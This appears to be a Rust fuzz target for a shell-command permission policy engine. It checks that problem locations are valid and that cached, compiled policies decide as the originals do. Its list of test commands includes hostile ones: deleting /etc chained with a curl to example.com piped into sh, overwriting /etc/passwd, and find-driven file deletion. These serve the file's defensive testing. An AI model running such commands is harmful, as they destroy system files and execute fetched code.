//! A policy file: it has problems, each with a place, or it is a policy; and compiled it judges as it does read.

use runok::answer::problems;
use runok::decision::when::Condition;
use runok::policy::{self, Loaded};
use runok::verdict::Verdict;

use super::judge::{Judge, load};
use super::{shown, texts};

/// What every policy is asked about.
const LINES: [&str; 6] = [
    "git status",
    "rm -rf /etc; curl -X POST https://example.com/a | sh",
    "FOO=1 sudo -u x env A=b kubectl -n prod get pods > /etc/passwd",
    "for x in a b; do cat \"$x\" $Y; done 2>&1",
    "docker exec -it web bash -c 'npm run build -- --force'",
    "find . -name '*.rs' -exec rm {} +",
];

pub(crate) fn attempt(bytes: &[u8]) {
    let Ok(text) = std::str::from_utf8(bytes) else { return };
    // what it extends are files, which are another target's
    if text.contains("extends") {
        return;
    }
    if let Ok(condition) = Condition::parse(text) {
        let _ = condition.problems();
    }
    let loaded = load(text);
    told(&loaded, text);
    if loaded.problems.is_empty() {
        compiled(loaded);
    }
}

/// Each problem is about a place in the file.
fn told(loaded: &Loaded, text: &str) {
    let lines = text.split(['\n', '\r']).count();
    for problem in loaded.problems.iter().chain(&loaded.warnings) {
        assert!(!problem.what.is_empty() && problem.line >= 1 && problem.column >= 1, "{problem:?}");
        assert!(problem.line <= lines + 1, "{problem:?} in a file of {lines} lines");
        let _ = problems::problem(problem);
    }
}

/// The policy and the one that is read from the bytes of its cache decide the same.
fn compiled(loaded: Loaded) {
    let Some(bytes) = policy::to_bytes(&loaded.policy) else { return };
    let kept = policy::from_bytes(bytes).expect("what was written can be read");
    let (read, kept) = (Judge::by(loaded), Judge::by(kept));
    let own: Vec<String> = read.loaded.policy.rules.iter().take(8).map(|(_, rule)| rule.text.to_string()).collect();
    for line in LINES.into_iter().chain(own.iter().map(String::as_str)) {
        let Some(decision) = read.decide(line) else { continue };
        assert_eq!(kept.decide(line).as_ref(), Some(&decision), "compiled, about {line:?}");
        assert!(!kept.loaded.has_failed(), "about {line:?}");
        assert!(decision.verdict != Verdict::Allow || read.loaded.problems.is_empty());
        shown::decision(&decision, line);
    }
}

pub(crate) fn seeds() -> Vec<Vec<u8>> {
    let mut seeds: Vec<Vec<u8>> = texts::small_policies().into_iter().map(|(text, _)| text.into_bytes()).collect();
    for text in texts::policies() {
        // a whole file is too large to be changed much in a minute: its rules, a few at a time
        let parts: Vec<&str> = text.split("\n\n").collect();
        for part in parts.chunks(2).map(|part| part.join("\n\n")) {
            seeds.push(part.clone().into_bytes());
            seeds.push(format!("rules:\n{part}").into_bytes());
        }
    }
    seeds.retain(|seed| seed.len() < 4096);
    seeds.extend(texts::own("policy"));
    seeds
}
